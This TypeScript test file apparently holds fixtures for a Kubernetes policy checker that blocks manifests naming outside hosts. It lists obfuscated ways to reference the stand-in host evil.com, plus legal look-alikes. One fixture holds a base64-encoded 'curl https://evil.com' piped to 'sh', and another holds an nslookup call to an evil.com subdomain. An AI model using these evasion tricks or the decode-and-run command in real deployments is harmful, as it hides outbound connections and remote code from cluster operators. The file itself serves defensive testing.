import { configMap, deployment, seldon } from "../../objects";

export const container = (fields: object) => deployment({ containers: [{ name: "c", ...fields }] });
export const env = (name: string, value: unknown) => container({ env: [{ name, value }] });
const base64 = (text: string) => Buffer.from(text).toString("base64");
const unknownKind = (spec: object) => ({
  apiVersion: "vendor.example/v1",
  kind: "Gadget",
  metadata: { name: "it", namespace: "team" },
  spec,
});
const annotated = (annotations: object) => ({
  ...configMap({}),
  metadata: { name: "it", namespace: "team", annotations },
});

/** Each with the host that it names. */
export const REFUSED: Record<string, [object, string]> = {
  "a URL in a variable": [env("X", "https://evil.com/x"), "evil.com"],
  "a URL in capitals with a user name": [env("X", "HTTPS://user:pw@EVIL.com."), "evil.com"],
  "a URL with another scheme": [env("X", "jdbc:postgresql://evil.com/db"), "evil.com"],
  "a URL with backslashes": [env("X", "http:\\\\evil.com"), "evil.com"],
  "a URL without a scheme": [env("X", "//evil.com/x"), "evil.com"],
  "a URL of another script": [env("X", "http://évil.com"), "xn--vil-9la.com"],
  "an address written as one number": [env("X", "http://134744072/"), "8.8.8.8"],
  "the second of several hosts": [env("X", "mongodb://a.svc,evil.com/db"), "evil.com"],
  "a host with a port": [env("X", "evil.com:443"), "evil.com"],
  "a private address with a port that is not the site's": [env("X", "10.99.0.1:80"), "10.99.0.1"],
  "a host alone behind a name that says host": [env("DB_HOST", "evil.com"), "evil.com"],
  "a host among others": [env("BROKERS", "a.team.svc,evil.com"), "evil.com"],
  "a public address": [env("X", "8.8.8.8"), "8.8.8.8"],
  "a public IPv6 address": [env("X", "2606:4700::1111"), "2606:4700::1111"],
  "an IPv4 address inside of an IPv6 one": [env("X", "::ffff:808:808"), "8.8.8.8"],
  "the cloud's metadata service": [env("X", "169.254.169.254"), "169.254.169.254"],
  "a number behind a name that says host": [env("TARGET_HOST", "134744072"), "8.8.8.8"],
  "a number with a port": [env("TARGET_HOST", "134744072:443"), "8.8.8.8"],
  "an address of two numbers": [env("TARGET_HOST", "8.526344"), "8.8.8.8"],
  "an address of octal numbers": [env("TARGET_HOST", "010.010.010.010"), "8.8.8.8"],
  "the host of a probe, in hexadecimal": [
    container({ livenessProbe: { httpGet: { host: "0x8.0x8.0x8.0x8", port: 80 } } }),
    "8.8.8.8",
  ],
  "the host of a hook, in few numbers": [
    container({ lifecycle: { preStop: { httpGet: { host: "8.2056", port: 80 } } } }),
    "8.0.8.8",
  ],
  "a flag": [container({ args: ["--server=evil.com"] }), "evil.com"],
  "a flag and its value": [container({ args: ["--server", "evil.com"] }), "evil.com"],
  "a command line": [container({ command: ["sh", "-c", "nslookup x.evil.com"] }), "x.evil.com"],
  "a repository by ssh": [container({ args: ["git@evil.com:a/b"] }), "evil.com"],
  "the host of a probe": [
    container({ livenessProbe: { httpGet: { host: "evil.com", port: 80 } } }),
    "evil.com",
  ],
  "a ConfigMap": [configMap({ file: "a = https://evil.com" }), "evil.com"],
  "JSON in YAML": [configMap({ f: `a: '{"b": "{\\"c\\": \\"http://evil.com\\"}"}'` }), "evil.com"],
  "a key": [configMap({ f: JSON.stringify({ "https://evil.com": 1 }) }), "evil.com"],
  "escaped slashes in a text": [configMap({ f: "x https:\\/\\/evil.com" }), "evil.com"],
  base64: [env("X", base64("https://evil.com/x")), "evil.com"],
  "base64 in base64": [env("X", base64(base64("https://evil.com/x"))), "evil.com"],
  "base64 in several lines": [
    configMap({
      f: (base64("x".repeat(90) + " https://evil.com").match(/.{1,64}/g) ?? []).join("\n"),
    }),
    "evil.com",
  ],
  "base64 in a command": [
    container({ args: [`echo ${base64("curl https://evil.com")} | base64 -d | sh`] }),
    "evil.com",
  ],
  "percent-encoding": [env("X", "next=https%3A%2F%2Fevil.com"), "evil.com"],
  "an annotation": [annotated({ "team/callback": "https://evil.com" }), "evil.com"],
  "a custom resource": [seldon("Gadget", { a: [{ b: "https://evil.com" }] }), "evil.com"],
  "an unknown kind": [unknownKind({ endpoint: "evil.com" }), "evil.com"],
  "a default that a shell falls back to": [env("X", "${URL:-https://evil.com}"), "evil.com"],
  "the end of a host that is made later": [env("X", "https://{{ name }}.evil.com/"), "x.evil.com"],
  "the default of a CRD": [
    {
      apiVersion: "apiextensions.k8s.io/v1",
      kind: "CustomResourceDefinition",
      metadata: { name: "gadgets.vendor.example" },
      spec: { versions: [{ schema: { p: { default: "https://evil.com" } } }] },
    },
    "evil.com",
  ],
};

/** The nearest things that are legal, and what only looks like an address. */
export const ACCEPTED: Record<string, object> = {
  "a URL of a Service": env("X", "https://store.team.svc:9000/x"),
  "a version behind a name that says server": configMap({ f: "server: 1.30.3" }),
  "a probe of the pod itself": container({
    livenessProbe: { httpGet: { host: "127.1", port: 80 } },
  }),
  "the names of a host alias": deployment({
    containers: [],
    hostAliases: [{ ip: "127.0.0.1", hostnames: ["web.test"] }],
  }),
  "a Service of the pod's own namespace": env("X", "store.team:9000"),
  "the host that images come from": env("X", "https://harbor.mlops.internal/api"),
  "what a server listens on": container({ args: ["--listen=0.0.0.0:9000", "--metrics=[::]:80"] }),
  "a host alone where nothing says host": env("X", "evil.com"),
  "the name of a file": env("SERVER_URL", "server.yaml"),
  "a class": env("SERVER_CLASS", "com.vendor.Server"),
  "a group": env("X", "mlops.seldon.io/v1alpha1"),
  "an image": container({ image: "registry.example:5000/a/b:1" }),
  "the name of a workload": env("X", "spiffe://cluster.local/ns/a/sa/b"),
  "an XML namespace": configMap({ f: '<a xmlns="http://vendor.com/ns"/>' }),
  "a JSON schema": configMap({ f: '{"$schema": "https://json-schema.org/draft/2020-12/schema"}' }),
  "a comment in a script": configMap({ f: "#!/bin/sh\n# see https://vendor.com\necho\n" }),
  "a description": seldon("Model", { description: "see https://vendor.com" }),
  "an annotation that people read": annotated({
    "helm.sh/homepage": "https://vendor.com",
    "artifacthub.io/links": "- url: https://vendor.com",
  }),
  "what kubectl keeps for itself": annotated({
    "kubectl.kubernetes.io/last-applied-configuration": '{"a": "https://vendor.com"}',
  }),
  "a block of addresses": env("X", "8.8.8.0/24"),
  "a version of four parts": env("NCCL_VERSION", "2.18.3.1"),
  "a time and a MAC address": env("X", "12:30:45 aa:bb:cc:dd:ee:ff"),
  "a bucket": seldon("Model", { storageUri: "s3://my.bucket/x" }),
  "a remote of rclone, which another rule judges": seldon("Model", { storageUri: "own://b.c/x" }),
  "a host that is made later in braces": env("X", "http://{host}/x"),
  "all names of a server": env("X", "https://+:443"),
  "an expression": env("X", "https://.+"),
  "the node that a pod chooses": deployment({
    nodeSelector: { "kubernetes.io/hostname": "node-1.corp.example" },
  }),
  "a host that is made later": env("X", "https://$(HOST):443/"),
  "a protobuf type": configMap({ f: '{"typeUrl": "type.googleapis.com/envoy.x"}' }),
  "where no proxy is used": env("NO_PROXY", "8.8.8.8,evil.com"),
  "the hosts of a route": {
    apiVersion: "networking.istio.io/v1",
    kind: "VirtualService",
    metadata: { name: "it", namespace: "team" },
    spec: { hosts: ["models.example.com"] },
  },
  "an expression of Prometheus": {
    apiVersion: "monitoring.coreos.com/v1",
    kind: "PrometheusRule",
    metadata: { name: "it", namespace: "team" },
    spec: { groups: [{ rules: [{ expr: 'up{instance="a.example.com:9100"}' }] }] },
  },
  "a NetworkPolicy, which the walls' rules judge": {
    apiVersion: "networking.k8s.io/v1",
    kind: "NetworkPolicy",
    metadata: { name: "it", namespace: "team" },
    spec: { egress: [{ to: [{ ipBlock: { cidr: "8.8.8.8/32" } }] }] },
  },
  "the data of a Secret": {
    apiVersion: "v1",
    kind: "Secret",
    metadata: { name: "it", namespace: "team" },
    stringData: { a: "https://evil.com" },
  },
  status: { ...configMap({}), status: { a: "https://evil.com" } },
};
